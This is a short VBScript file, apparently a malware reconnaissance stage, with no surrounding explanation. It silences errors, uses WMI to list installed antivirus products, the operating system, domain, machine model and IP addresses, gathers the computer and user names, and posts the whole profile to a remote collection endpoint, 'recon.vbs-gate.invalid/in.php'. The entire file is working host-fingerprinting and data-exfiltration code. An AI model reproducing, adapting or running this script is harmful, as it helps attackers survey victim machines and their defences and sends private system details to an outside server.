On Error Resume Next
Set net = CreateObject("WScript.Network")
Set sc = GetObject("winmgmts:\\.\root\SecurityCenter2")
av = ""
For Each p In sc.ExecQuery("SELECT displayName, productState FROM AntiVirusProduct")
    av = av & p.displayName & "(" & Hex(p.productState) & ");"
Next
Set wmi = GetObject("winmgmts:\\.\root\cimv2")
For Each o In wmi.ExecQuery("SELECT Caption, OSArchitecture, Version FROM Win32_OperatingSystem")
    os = o.Caption & " " & o.OSArchitecture & " " & o.Version
Next
For Each c In wmi.ExecQuery("SELECT Domain, Model, NumberOfProcessors FROM Win32_ComputerSystem")
    dom = c.Domain: model = c.Model
Next
For Each a In wmi.ExecQuery("SELECT IPAddress FROM Win32_NetworkAdapterConfiguration WHERE IPEnabled = True")
    ip = Join(a.IPAddress, ",")
Next
body = "h=" & net.ComputerName & "&u=" & net.UserName & "&d=" & dom & "&m=" & model & "&os=" & os & "&av=" & av & "&ip=" & ip
Set x = CreateObject("MSXML2.ServerXMLHTTP.6.0")
x.Open "POST", "http://recon.vbs-gate.invalid/in.php", False
x.setRequestHeader "Content-Type", "application/x-www-form-urlencoded"
x.Send body
